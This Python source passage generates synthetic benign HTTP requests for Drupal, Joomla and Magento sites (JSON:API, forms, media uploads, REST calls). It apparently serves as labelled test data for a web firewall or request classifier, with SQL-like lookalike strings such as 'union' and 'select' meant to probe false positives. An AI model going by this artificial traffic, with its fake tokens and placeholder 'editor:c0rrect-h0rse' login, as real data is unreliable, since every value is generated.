SEARCH_TERMS = ["select committee report", "union street parking", "drop-down menu not working", "O'Reilly books",
                "how to delete my account", "update address", "where to buy tickets", "table and chairs hire", "script fonts",
                "flood alert levels", "C++ vs C# course", "50% off", "café olé", "\"exact phrase\" -draft", "grant writing workshop",
                "user manual pdf", "london to paris", "kids' club", "1 bed flat", "or", "and/or", "Ireland v France 6 Nations",
                "insert molding", "exec summary template", "null hypothesis", "sleep clinic", "wait times a&e", "benchmark results 2024",
                "Müllabfuhr Termine", "horaires d'ouverture", "biblioteca horario", "会員登録", "Führerschein Umtausch",
                "from 9 to 5", "T-shirt size L", "rock 'n' roll", "having trouble logging in", "group by age", "order status",
                "ADA compliance checklist", "Union Jack mug", "declare interests form", "cast list", "concat charger"]

SEO_DESC = ["Find out what's on at the summer festival: music, food stalls and family activities. Select a day to see the full programme.",
            "Union members' discounts, AGM dates and how to update your membership details.",
            "Handmade wool jumpers from the Faroe Islands – knitted by local makers since 1987.",
            "Drop us a line for a free quote. Same-day call-backs Mon–Fri.",
            "Official site of St Mary's parish: mass times, weddings, baptisms & the parish newsletter.",
            "Stadtwerke Felsberg: Strom, Gas & Wasser – Störungen melden, Zählerstand übermitteln.",
            "Architecture studio in Bristol — houses, schools and public buildings. See our projects."]


# =====================================================================
# Benign generators
# =====================================================================

def B(c, sub, method, uri, headers, body=None):
    return c.add("benign", sub, "pass", method, uri, headers, body)


# ---------------------------------------------------------------- Drupal

DRUPAL_FIELDS = ["title", "created", "changed", "status", "body", "field_image", "field_tags", "path"]


def drupal_jsonapi(c):
    h = host("drupal")
    kind = R.random()
    ua = pick(["axios/1.6.8", "Next.js Middleware", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "GuzzleHttp/7", pick(UA_BROWSERS)])
    if kind < 0.55:
        bundle = pick(["article", "page", "event", "news", "person"])
        pairs = []
        if R.random() < 0.7:
            pairs += [("filter[status]", "1")]
        if R.random() < 0.5:
            pairs += [("filter[tag][condition][path]", "field_tags.name"), ("filter[tag][condition][operator]", pick(["IN", "="])),
                      ("filter[tag][condition][value][]", pick(["Events", "Union news", "Community"]))]
        if R.random() < 0.4:
            pairs += [("filter[title-filter][condition][path]", "title"), ("filter[title-filter][condition][operator]", "CONTAINS"),
                      ("filter[title-filter][condition][value]", pick(["festival", "O'Brien", "select", "union", "drop-in"]))]
        if R.random() < 0.4:
            pairs += [("filter[date][condition][path]", "field_date"), ("filter[date][condition][operator]", ">="),
                      ("filter[date][condition][value]", "2024-%02d-01" % R.randint(1, 12))]
        if R.random() < 0.6:
            pairs += [("include", pick(["field_image", "field_tags,uid", "field_image,field_image.field_media_image", "uid.user_picture"]))]
        if R.random() < 0.6:
            pairs += [("fields[node--%s]" % bundle, ",".join(R.sample(DRUPAL_FIELDS, R.randint(2, 5))))]
        pairs += [("sort", pick(["-created", "title", "-sticky,-created", "field_date"]))]
        pairs += [("page[limit]", pick(["10", "12", "20", "50"]))]
        if R.random() < 0.4:
            pairs += [("page[offset]", str(R.randint(1, 8) * 10))]
        qs = form(pairs, raw_keys=R.random() < 0.4)
        return B(c, "drupal_jsonapi", "GET", "/jsonapi/node/%s?%s" % (bundle, qs),
                 api(h, ua, accept="application/vnd.api+json"))
    if kind < 0.8:
        title = pick(TITLES)
        body = {"data": {"type": "node--article", "attributes": {"title": title, "status": R.random() < 0.5,
                                                                 "body": {"value": rich_html(), "format": pick(["basic_html", "full_html"]),
                                                                          "summary": pick(PROSE)},
                                                                 "path": {"alias": "/news/" + slugify(title)}},
                         "relationships": {"field_tags": {"data": [{"type": "taxonomy_term--tags", "id": uuid4()} for _ in range(R.randint(1, 3))]}}}}
        method, uri = "POST", "/jsonapi/node/article"
        if R.random() < 0.5:
            nid = uuid4()
            body["data"]["id"] = nid
            method, uri = "PATCH", "/jsonapi/node/article/" + nid
        return B(c, "drupal_jsonapi", method, uri,
                 api(h, ua, "application/vnd.api+json", auth=pick(["Bearer " + jwt_like(), "Basic " + base64.b64encode(b"editor:c0rrect-h0rse").decode()]),
                     accept="application/vnd.api+json", extra=[["X-CSRF-Token", tok(43, B64URL)]]), jdump(body))
    # user / comment
    body = {"data": {"type": "comment--comment", "attributes": {"subject": pick(["Great article", "Question about parking", "Thanks!"]),
                                                               "comment_body": {"value": "<p>%s</p>" % pick(PROSE), "format": "basic_html"},
                                                               "entity_type": "node", "field_name": "comment"},
                     "relationships": {"entity_id": {"data": {"type": "node--article", "id": uuid4()}}}}}
    return B(c, "drupal_jsonapi", "POST", "/jsonapi/comment/comment",
             api(h, ua, "application/vnd.api+json", auth="Bearer " + jwt_like(), accept="application/vnd.api+json"), jdump(body))


def drupal_node_form(c):
    h = host("drupal")
    title = pick(TITLES)
    nid = R.randint(10, 9000)
    bundle = pick(["article", "page", "event"])
    edit = R.random() < 0.6
    uri = "/node/%d/edit" % nid if edit else "/node/add/" + bundle
    if edit and R.random() < 0.5:
        uri += "?destination=" + qp("/admin/content?status=All&type=%s&title=&langcode=All" % bundle)
    parts = [("changed", str(1717000000 + R.randint(0, 9000000))), ("title[0][value]", title),
             ("form_build_id", form_build_id()), ("form_token", form_token()),
             ("form_id", ("node_%s_%s_form" % (bundle, "edit" if edit else "")).replace("__", "_")),
             ("body[0][summary]", pick(PROSE)), ("body[0][value]", rich_html()), ("body[0][format]", pick(["basic_html", "full_html"])),
             ("field_image[0][fids]", ""), ("files[field_image_0]", b"", "", "application/octet-stream"),
             ("field_tags[target_id]", pick(["Events (12), Community (3)", "Union news (41)", "Food & drink (7), Summer (19)", ""])),
             ("revision", "1"), ("revision_log[0][value]", pick(["Fixed typo", "Updated opening times", "Added map", "Select new hero image", ""])),
             ("path[0][alias]", "/" + slugify(title)), ("path[0][pathauto]", "0"),
             ("menu[enabled]", pick(["0", "1"])), ("menu[title]", title[:40]), ("menu[description]", ""),
             ("menu[menu_parent]", "main:"), ("menu[weight]", "0"), ("uid[0][target_id]", "%s (%d)" % (pick(NAMES), R.randint(2, 80))),
             ("created[0][value][date]", "2024-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))), ("created[0][value][time]", "%02d:%02d:00" % (R.randint(0, 23), R.randint(0, 59))),
             ("promote[value]", "1"), ("status[value]", "1"), ("op", "Save")]
    ctype, body = multipart(parts, style=pick(["webkit", "firefox"]))
    hd = browser(h, referer="https://%s%s" % (h, uri), cookie=ck_drupal(), extra=[["Origin", "https://" + h], ["Content-Type", ctype]])
    return B(c, "drupal_node_form", "POST", uri, hd, body)


def drupal_views_ajax(c):
    h = host("drupal")
    view = pick([("content", "page_1", "/admin/content"), ("events", "block_1", "/events"), ("news", "page_1", "/news"),
                 ("media_library", "widget", "/media-library"), ("search", "page_1", "/search")])
    pairs = [("view_name", view[0]), ("view_display_id", view[1]), ("view_args", pick(["", "12", "all/2024", "article"])),
             ("view_path", view[2]), ("view_base_path", view[2].lstrip("/")), ("view_dom_id", hexs(64)),
             ("pager_element", "0")]
    if view[0] == "content":
        pairs += [("title", pick(["union", "O'Brien", "", "select", "drop-in"])), ("type", pick(["All", "article", "page"])),
                  ("status", pick(["All", "1", "2"])), ("langcode", "All"), ("order", pick(["changed", "title"])), ("sort", pick(["asc", "desc"]))]
    elif view[0] == "events":
        pairs += [("field_date_value", "2024-%02d-01" % R.randint(1, 12)), ("field_category_target_id", str(R.randint(1, 40)))]
    elif view[0] == "media_library":
        pairs += [("name", pick(["logo", "team", ""])), ("sort_by", "created"), ("sort_order", "DESC"), ("media_library_opener_id", "media_library.opener.editor"),
                  ("media_library_allowed_types[image]", "image"), ("media_library_selected_type", "image"), ("media_library_remaining", "1")]
    else:
        pairs += [("search_api_fulltext", pick(SEARCH_TERMS))]
    pairs += [("page", str(R.randint(1, 6))), ("_drupal_ajax", "1"), ("ajax_page_state[theme]", pick(["claro", "olivero", "gin"])),
              ("ajax_page_state[theme_token]", pick(["", tok(43, B64URL)])),
              ("ajax_page_state[libraries]", "eJx" + tok(R.randint(120, 300), B64URL))]
    if R.random() < 0.6:
        body = form(pairs)
        hd = browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie=ck_drupal(),
                     referer="https://%s%s" % (h, view[2]),
                     extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["Origin", "https://" + h]])
        return B(c, "drupal_views_ajax", "POST", "/views/ajax?_wrapper_format=drupal_ajax", hd, body)
    hd = browser(h, accept="application/json, text/javascript, */*; q=0.01", referer="https://%s%s" % (h, view[2]), extra=[["X-Requested-With", "XMLHttpRequest"]])
    return B(c, "drupal_views_ajax", "GET", "/views/ajax?_wrapper_format=drupal_ajax&" + form(pairs), hd)


def drupal_media(c):
    h = host("drupal")
    r = R.random()
    if r < 0.6:
        img = fake_jpeg() if R.random() < 0.6 else fake_png()
        ext = "jpg" if img[:2] == b"\xff\xd8" else "png"
        fname = pick(["IMG_%04d" % R.randint(1, 9999), "team photo 2024", "Siobhán's talk", "poster-final-v3", "DSC0%d" % R.randint(1000, 9999)]) + "." + ext
        parts = [("files[upload][]", img, fname, "image/jpeg" if ext == "jpg" else "image/png"),
                 ("form_build_id", form_build_id()), ("form_token", form_token()),
                 ("form_id", "media_library_add_form_upload"), ("_triggering_element_name", "files[upload]"),
                 ("_triggering_element_value", ""), ("_drupal_ajax", "1"),
                 ("ajax_page_state[theme]", "claro"), ("ajax_page_state[theme_token]", tok(43, B64URL)),
                 ("ajax_page_state[libraries]", "eJx" + tok(200, B64URL))]
        ctype, body = multipart(parts)
        uri = "/media-library?_wrapper_format=drupal_ajax&media_library_opener_id=media_library.opener.field_widget&media_library_allowed_types%5Bimage%5D=image&media_library_selected_type=image&media_library_remaining=1&hash=" + tok(43, B64URL) + "&ajax_form=1&element_parents=upload"
        hd = browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie=ck_drupal(),
                     extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", ctype], ["Origin", "https://" + h]])
        return B(c, "drupal_media", "POST", uri, hd, body)
    if r < 0.8:
        pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + bytes(R.randrange(256) for _ in range(R.randint(120, 300))) + b"\n%%EOF\n"
        parts = [("name[0][value]", pick(["Annual report 2023", "Minutes – 12 March", "Planning application 24/0193"])),
                 ("files[field_media_document_0]", pdf, pick(["annual-report-2023.pdf", "minutes_12-03.pdf", "Application 24-0193.pdf"]), "application/pdf"),
                 ("field_media_document[0][fids]", ""), ("field_media_document[0][display]", "1"),
                 ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "media_document_add_form"), ("op", "Save")]
        ctype, body = multipart(parts, style="firefox")
        return B(c, "drupal_media", "POST", "/media/add/document", browser(h, cookie=ck_drupal(), extra=[["Content-Type", ctype]]), body)
    # remote video
    url = pick(["https://www.youtube.com/watch?v=%s" % pick(YOUTUBE_IDS), "https://vimeo.com/%d" % R.randint(70000000, 900000000),
                "https://youtu.be/%s?t=%d" % (pick(YOUTUBE_IDS), R.randint(5, 300))])
    body = form([("field_media_oembed_video[0][value]", url), ("name[0][value]", pick(TITLES)), ("form_build_id", form_build_id()),
                 ("form_token", form_token()), ("form_id", "media_remote_video_add_form"), ("status[value]", "1"), ("op", "Save")])
    return B(c, "drupal_media", "POST", "/media/add/remote_video",
             browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), body)


IMAGE_STYLES = ["thumbnail", "medium", "large", "wide", "max_650x650", "max_1300x1300", "hero_1920x600", "card_16_9", "square_400", "media_library"]


def image_styles(c):
    r = R.random()
    fname = pick(["harbour-at-dusk", "IMG_%04d" % R.randint(1, 9999), "team-photo_0", "poster%20final", "caf%C3%A9-front", "mary-o%27brien", "Screenshot%202024-05-02%20at%2010.41.12"])
    ext = pick(["jpg", "jpeg", "png", "webp"])
    if r < 0.55:
        h = host("drupal")
        style = pick(IMAGE_STYLES)
        path = "/sites/default/files/styles/%s/public/%s/%s.%s" % (style, pick(["2024-0%d" % R.randint(1, 9), "inline-images", "pictures/2023-11", "media-icons/generic"]), fname, ext)
        if R.random() < 0.3:
            path += ".webp"
        uri = path + "?itok=" + itok()
        if R.random() < 0.15:
            uri += "&h=" + hexs(8)
        return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG, referer="https://%s/" % h))
    if r < 0.7:
        h = host("magento")
        uri = "/media/catalog/product/cache/%s/%s/%s/%s.%s" % (hexs(32), fname[0].lower(), fname[1].lower(), fname, ext)
        return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG))
    if r < 0.8:
        h = host("sitecore")
        uri = "/-/media/project/%s/%s.%s?h=%d&w=%d&la=en&hash=%s" % (pick(["corporate/hero", "shared/logos", "campaigns/summer"]), fname.lower(), ext,
                                                                     pick([400, 600, 800]), pick([600, 1200, 1600]), hexs(32).upper())
        return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG))
    if r < 0.9:
        h = host("craft")
        uri = "/uploads/projects/_%dx%d_crop_center-center_82_none/%s.%s" % (pick([1200, 800, 600]), pick([630, 600, 400]), fname, ext)
        return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG))
    if r < 0.95:
        h = host("typo3")
        uri = "/fileadmin/_processed_/%s/%s/csm_%s_%s.%s" % (hexs(1), hexs(1), fname.replace("%20", "-"), hexs(10), ext)
        return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG))
    h = host("ghost")
    uri = "/content/images/size/w%d/format/webp/2024/0%d/%s.%s" % (pick([300, 600, 1000, 2000]), R.randint(1, 9), fname, ext)
    return B(c, "image_styles", "GET", uri, browser(h, accept=ACCEPT_IMG))


def drupal_misc(c):
    h = host("drupal")
    r = R.random()
    if r < 0.25:
        dest = pick(["/node/%d" % R.randint(1, 900), "/admin/content", "/user/%d/edit" % R.randint(2, 99), "/events/summer-festival?utm_source=newsletter"])
        body = form([("name", pick(["s.obrien", "patrick.oconnor", "editor", "zoe.mueller"])), ("pass", tok(14)),
                     ("form_build_id", form_build_id()), ("form_id", "user_login_form"), ("op", "Log in")])
        return B(c, "drupal_misc", "POST", "/user/login?destination=" + qp(dest),
                 browser(h, cookie="has_js=1", extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Origin", "https://" + h]]), body)
    if r < 0.4:
        ids = "&".join("ids%%5B%%5D=%s" % qp("block:block=%s:langcode=en|block_content:block_content=%d:changed=%d&langcode=en" % (pick(["olivero_content", "claro_help"]), R.randint(1, 30), 1717000000 + R.randint(0, 900000))) for _ in range(R.randint(1, 3)))
        return B(c, "drupal_misc", "POST", "/contextual/render?_wrapper_format=json&destination=" + qp("/node/%d" % R.randint(1, 900)),
                 browser(h, accept="application/json, text/javascript, */*; q=0.01", cookie=ck_drupal(),
                         extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"]]), ids)
    if r < 0.55:
        return B(c, "drupal_misc", "POST", "/history/%d/read" % R.randint(1, 900),
                 browser(h, accept="*/*", cookie=ck_drupal(), extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded"]]), "")
    if r < 0.7:
        body = form([("field_newsletter_email[0][value]", person()[1]), ("preferences[topics][events]", "events"),
                     ("preferences[topics][union]", "union"), ("form_build_id", form_build_id()), ("form_id", "simplenews_subscriptions_block_%s" % hexs(32)), ("op", "Subscribe")])
        return B(c, "drupal_misc", "POST", "/node/%d" % R.randint(1, 900), browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), body)
    if r < 0.85:
        body = form([("name", person()[1]), ("form_build_id", form_build_id()), ("form_id", "user_pass"), ("op", "Submit")])
        return B(c, "drupal_misc", "POST", "/user/password", browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), body)
    return B(c, "drupal_misc", "GET", "/node/%d?page=%d&%s" % (R.randint(1, 900), R.randint(1, 4), pick(["amp", "_format=json", "destination=/news", "utm_source=facebook&utm_medium=social&utm_campaign=summer_fest"])),
             browser(h))


def drupal_comments(c):
    h = host("drupal")
    nid = R.randint(1, 900)
    n, em = person()
    body = [("subject[0][value]", pick(["Thanks!", "Question about tickets", "Re: parking", "Brilliant idea", "A small correction"])),
            ("comment_body[0][value]", "<p>%s</p><p>%s</p>" % (pick(PROSE), pick(PROSE))), ("comment_body[0][format]", "basic_html"),
            ("form_build_id", form_build_id()), ("form_id", "comment_comment_form"), ("op", "Save")]
    if R.random() < 0.5:
        body = [("name", n), ("mail", em), ("homepage", pick(["", "https://%s.example.net/" % slugify(n)]))] + body
    else:
        body.append(("form_token", form_token()))
    return B(c, "drupal_comments", "POST", "/comment/reply/node/%d/comment" % nid,
             browser(h, cookie=ck_drupal() if R.random() < 0.5 else None, referer="https://%s/node/%d" % (h, nid),
                     extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(body))


# ---------------------------------------------------------------- Joomla

def joomla_site(c):
    h = host("joomla")
    r = R.random()
    if r < 0.35:
        aid = R.randint(1, 400)
        title = pick(TITLES)
        pairs = [("option", "com_content"), ("view", pick(["article", "article", "category", "featured"]))]
        if pairs[1][1] == "article":
            pairs += [("id", "%d:%s" % (aid, slugify(title))), ("catid", str(R.randint(2, 30)))]
        elif pairs[1][1] == "category":
            pairs += [("layout", "blog"), ("id", str(R.randint(2, 30))), ("limitstart", str(R.randint(0, 5) * 10))]
        pairs += [("Itemid", str(R.randint(101, 480)))]
        if R.random() < 0.2:
            pairs += [("lang", pick(["en", "de", "fr"]))]
        return B(c, "joomla_site", "GET", "/index.php?" + form(pairs), browser(h))
    if r < 0.55:
        q = pick(SEARCH_TERMS)
        if R.random() < 0.5:
            uri = "/index.php?option=com_finder&view=search&q=%s&Itemid=%d" % (qp(q), R.randint(101, 480))
            if R.random() < 0.4:
                uri += "&f=%d&t%%5B%%5D=%d" % (R.randint(1, 4), R.randint(1, 30))
        else:
            uri = "/index.php?option=com_search&searchword=%s&searchphrase=%s&ordering=%s&Itemid=%d" % (qp(q), pick(["all", "any", "exact"]), pick(["newest", "popular", "alpha"]), R.randint(101, 480))
        return B(c, "joomla_site", "GET", uri, browser(h))
    if r < 0.75:
        ret = base64.b64encode(pick([b"index.php?Itemid=101", b"index.php?option=com_users&view=profile", b"https://" + h.encode() + b"/members/downloads"])).decode()
        body = form([("username", pick(["sobrien", "patrick.oc", "zmueller", "admin-club"])), ("password", tok(12)), ("remember", "yes"),
                     ("return", ret), (hexs(32), "1")])
        return B(c, "joomla_site", "POST", "/index.php?option=com_users&task=user.login&Itemid=%d" % R.randint(101, 480),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Origin", "https://" + h]]), body)
    if r < 0.9:
        n, em = person()
        body = form([("jform[contact_name]", n), ("jform[contact_email]", em), ("jform[contact_subject]", pick(["Membership", "Drop-in sessions", "Room hire", "Select choir"])),
                     ("jform[contact_message]", pick(PROSE) + "\r\n\r\n" + pick(PROSE)), ("jform[contact_email_copy]", pick(["0", "1"])),
                     ("option", "com_contact"), ("task", "contact.submit"), ("return", ""), ("id", "%d:%s" % (R.randint(1, 9), pick(["secretary", "club-office", "parish-office"]))), (hexs(32), "1")])
        return B(c, "joomla_site", "POST", "/index.php?option=com_contact&view=contact&id=1&Itemid=%d" % R.randint(101, 480),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), body)
    # Joomla 4 web services API
    pairs = [("page[limit]", str(pick([10, 20, 50]))), ("page[offset]", str(R.randint(0, 4) * 20))]
    if R.random() < 0.5:
        pairs += [("filter[search]", pick(["festival", "O'Brien", "union"])), ("filter[state]", "1")]
    return B(c, "joomla_site", "GET", "/api/index.php/v1/content/articles?" + form(pairs, raw_keys=R.random() < 0.5),
             api(h, pick(["Joomla-Sync/2.1", "python-httpx/0.27.0", "Postman/10.24"]), accept="application/vnd.api+json", extra=[["X-Joomla-Token", "c2hhMjU2OjI6" + tok(60, B64URL)]]))


def joomla_admin(c):
    h = host("joomla")
    r = R.random()
    tokn = hexs(32)
    if r < 0.5:
        aid = R.randint(1, 400)
        title = pick(TITLES)
        img = pick(["headers/blue-flower.jpg", "2024/festival/stage.jpg", "sampledata/parks/landscape/250px_cradle_mountain.jpg"])
        pairs = [("jform[title]", title), ("jform[alias]", slugify(title)), ("jform[articletext]", rich_html("joomla")),
                 ("jform[state]", "1"), ("jform[catid]", str(R.randint(2, 30))), ("jform[featured]", "0"), ("jform[access]", "1"),
                 ("jform[language]", pick(["*", "en-GB", "de-DE"])), ("jform[tags][]", str(R.randint(2, 20))),
                 ("jform[images][image_intro]", "images/%s#joomlaImage://local-images/%s?width=700&height=%d" % (img, img, pick([180, 400, 467]))),
                 ("jform[images][image_intro_alt]", pick(["Stage at night", "Blue flower", ""])),
                 ("jform[urls][urla]", pick(["", "https://www.visitbavaria.example/events?lang=en"])),
                 ("jform[metadesc]", pick(SEO_DESC)), ("jform[metakey]", pick(["festival, music, union", "parish, mass times", ""])),
                 ("jform[metadata][robots]", pick(["", "index, follow", "noindex, follow"])), ("jform[metadata][author]", pick(NAMES)),
                 ("jform[publish_up]", "2024-0%d-%02d 09:00:00" % (R.randint(1, 9), R.randint(1, 28))),
                 ("task", pick(["article.apply", "article.save", "article.save2new"])), ("return", ""), (tokn, "1")]
        return B(c, "joomla_admin", "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % aid,
                 browser(h, cookie=ck_joomla(), referer="https://%s/administrator/index.php?option=com_content&view=article&layout=edit&id=%d" % (h, aid),
                         extra=[["Content-Type", "application/x-www-form-urlencoded"], ["Origin", "https://" + h]]), form(pairs))
    if r < 0.75:
        pairs = [("option", pick(["com_content", "com_users", "com_menus", "com_contact"])), ("view", pick(["articles", "items", "users"])),
                 ("filter[search]", pick(["", "festival", "O'Brien", "id:42", "author:sobrien", "union"])), ("filter[published]", pick(["", "1", "0", "*"])),
                 ("filter[category_id]", pick(["", str(R.randint(2, 30))])), ("filter[level]", ""), ("filter[language]", ""),
                 ("list[fullordering]", pick(["a.id DESC", "a.title ASC", "a.created DESC", "a.ordering ASC", "a.hits DESC", "category_title ASC"])),
                 ("list[limit]", pick(["20", "50", "100", "0"]))]
        if R.random() < 0.5:
            return B(c, "joomla_admin", "GET", "/administrator/index.php?" + form(pairs), browser(h, cookie=ck_joomla()))
        pairs += [("task", ""), ("boxchecked", "0"), (tokn, "1")]
        return B(c, "joomla_admin", "POST", "/administrator/index.php?option=%s&view=%s" % (pairs[0][1], pairs[1][1]),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs[2:]))
    if r < 0.9:
        # menu item
        title = pick(["About us", "What's on", "Members' area", "Contact", "Union news", "Select choir", "Kids' club"])
        pairs = [("jform[title]", title), ("jform[alias]", slugify(title)), ("jform[menutype]", pick(["mainmenu", "footer", "usermenu"])),
                 ("jform[type]", "component"), ("jform[link]", "index.php?option=com_content&view=article&id=%d" % R.randint(1, 400)),
                 ("jform[request][id]", str(R.randint(1, 400))), ("jform[parent_id]", "1"), ("jform[published]", "1"),
                 ("jform[browserNav]", "0"), ("jform[params][menu-anchor_title]", ""), ("jform[params][menu_text]", "1"),
                 ("jform[params][page_title]", title + " | " + pick(["St Mary's Parish", "Tennis Club Lindau"])),
                 ("task", "item.apply"), (tokn, "1")]
        return B(c, "joomla_admin", "POST", "/administrator/index.php?option=com_menus&view=item&client_id=0&layout=edit&id=%d" % R.randint(100, 600),
                 browser(h, cookie=ck_joomla(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    # update check / ajax
    return B(c, "joomla_admin", "GET", pick(["/administrator/index.php?option=com_joomlaupdate&view=joomlaupdate",
                                             "/administrator/index.php?option=com_installer&view=update&task=update.find&%s=1" % tokn,
                                             "/administrator/index.php?option=com_ajax&group=quickicon&plugin=getupdates&format=json&eid=%d" % R.randint(700, 800),
                                             "/administrator/index.php?option=com_cpanel&view=cpanel&dashboard=content"]),
             browser(h, accept=ACCEPT_JSON, cookie=ck_joomla(), extra=[["X-Requested-With", "XMLHttpRequest"]]))


# ---------------------------------------------------------------- Magento

SKUS = ["MJ01-XS-Orange", "WS12-M-Blue", "24-MB02", "WJ08-L-Gray", "MH03-XL-Black", "24-UG06", "NW-FAROE-JMP-M", "BK-CHEF-KNIFE-20", "PL-A5-DOT-GRID"]


def sc_filters(groups, sort=None, page=None):
    pairs = []
    for gi, g in enumerate(groups):
        for fi, (field, value, cond) in enumerate(g):
            base = "searchCriteria[filter_groups][%d][filters][%d]" % (gi, fi)
            pairs += [(base + "[field]", field), (base + "[value]", value), (base + "[condition_type]", cond)]
    if sort:
        pairs += [("searchCriteria[sortOrders][0][field]", sort[0]), ("searchCriteria[sortOrders][0][direction]", sort[1])]
    if page:
        pairs += [("searchCriteria[pageSize]", str(page[0])), ("searchCriteria[currentPage]", str(page[1]))]
    return pairs


def magento_rest(c):
    h = host("magento")
    r = R.random()
    ua = pick(["GuzzleHttp/7", "axios/1.7.2", "PIM-Connector/3.4 (+https://pim.example.com)", "ERP-Sync/5.2", "python-requests/2.32.3", "Apache-HttpClient/4.5.14 (Java/17.0.10)"])
    auth = "Bearer " + tok(32, "abcdefghijklmnopqrstuvwxyz0123456789")
    store = pick(["", "/default", "/all", "/en", "/de"])
    if r < 0.4:
        groups = [[(pick(["name", "sku", "description"]), pick(["%jacket%", "%O'Neill%", "%union jack%", "%drop earrings%", "%select%", "MJ01%", "%wool%"]), "like")]]
        if R.random() < 0.5:
            groups.append([("status", "1", "eq")])
        if R.random() < 0.4:
            groups.append([("price", str(R.randint(10, 200)), pick(["gteq", "lteq", "gt"]))])
        if R.random() < 0.3:
            groups.append([("category_id", ",".join(str(R.randint(2, 60)) for _ in range(3)), "in")])
        pairs = sc_filters(groups, sort=(pick(["price", "name", "created_at", "position"]), pick(["ASC", "DESC"])), page=(pick([20, 50, 100]), R.randint(1, 5)))
        if R.random() < 0.3:
            pairs.append(("fields", "items[sku,name,price,status],total_count"))
        return B(c, "magento_rest", "GET", "/rest%s/V1/products?%s" % (store, form(pairs, raw_keys=R.random() < 0.5)), api(h, ua, auth=auth))
    if r < 0.55:
        groups = [[("created_at", "2024-%02d-01 00:00:00" % R.randint(1, 12), "gteq")], [("status", pick(["pending", "processing", "complete"]), "eq")]]
        if R.random() < 0.4:
            groups.append([("customer_email", person()[1], "eq")])
        pairs = sc_filters(groups, sort=("created_at", "DESC"), page=(100, R.randint(1, 9)))
        return B(c, "magento_rest", "GET", "/rest/V1/orders?" + form(pairs, raw_keys=True), api(h, ua, auth=auth))
    if r < 0.7:
        n, em = person()
        fn, ln = n.split()[0], n.split()[-1]
        addr = {"region": pick(["", "Dublin", "Bayern", "California"]), "region_id": pick([0, 81, 12]), "country_id": pick(["IE", "DE", "US", "GB", "FR"]),
                "street": [pick(["12 O'Connell Street", "Hauptstraße 5", "1 Union Square", "Flat 3, 22 Select Road"]), pick(["", "Apt 4B", "c/o D'Arcy"])],
                "postcode": pick(["D01 F5P2", "80331", "94108", "SW1A 1AA"]), "city": pick(["Dublin", "München", "San Francisco", "London"]),
                "firstname": fn, "lastname": ln, "telephone": "+%d %d" % (R.randint(1, 49), R.randint(10000000, 99999999))}
        mask = tok(32)
        if R.random() < 0.5:
            body = {"address": dict(addr, email=em, same_as_billing=1)}
            uri = "/rest%s/V1/guest-carts/%s/estimate-shipping-methods" % (store, mask)
        else:
            body = {"addressInformation": {"shipping_address": dict(addr, email=em), "billing_address": dict(addr, email=em),
                                           "shipping_method_code": pick(["flatrate", "tablerate", "freeshipping"]), "shipping_carrier_code": pick(["flatrate", "tablerate", "freeshipping"]),
                                           "extension_attributes": {"delivery_note": pick(["Leave with neighbour at no. 14", "Please don't ring the bell – baby sleeping", ""])}}}
            uri = "/rest%s/V1/guest-carts/%s/shipping-information" % (store, mask)
        return B(c, "magento_rest", "POST", uri, browser(h, accept="*/*", referer="https://%s/checkout/" % h, cookie=ck_magento(),
                                                           extra=[["Content-Type", "application/json"], ["X-Requested-With", "XMLHttpRequest"]]), jdump(body))
    if r < 0.85:
        body = {"cartItem": {"sku": pick(SKUS), "qty": R.randint(1, 4), "quote_id": str(R.randint(1000, 99999))}}
        if R.random() < 0.4:
            body["cartItem"]["product_option"] = {"extension_attributes": {"custom_options": [{"option_id": str(R.randint(1, 20)), "option_value": pick(["Happy birthday, Mum!", "For D'Arcy – love, Nan", "Engrave: 'Union 1912'"])}]}}
        return B(c, "magento_rest", "POST", "/rest%s/V1/carts/mine/items" % store, api(h, pick(["okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240505.004)", "ShopApp/3.12 CFNetwork/1494.0.7 Darwin/23.4.0"]), "application/json", auth=auth), jdump(body))
    body = {"product": {"sku": pick(SKUS), "name": pick(["Faroe wool jumper – 'Grind' pattern", "Chef's knife 20cm", "A5 dot-grid notebook"]),
                        "price": round(R.uniform(5, 250), 2), "status": 1, "visibility": 4, "type_id": "simple", "attribute_set_id": 4,
                        "custom_attributes": [{"attribute_code": "description", "value": rich_html("magento")},
                                              {"attribute_code": "meta_title", "value": pick(TITLES)},
                                              {"attribute_code": "meta_description", "value": pick(SEO_DESC)},
                                              {"attribute_code": "url_key", "value": slugify(pick(TITLES))}]}}
    return B(c, "magento_rest", "PUT", "/rest/all/V1/products/" + qpct(body["product"]["sku"]), api(h, ua, "application/json", auth=auth), jdump(body))


def magento_graphql(c):
    h = host("magento")
    r = R.random()
    if r < 0.4:
        q = ("query ProductSearch($search: String!, $pageSize: Int, $currentPage: Int, $sort: ProductAttributeSortInput) {\n"
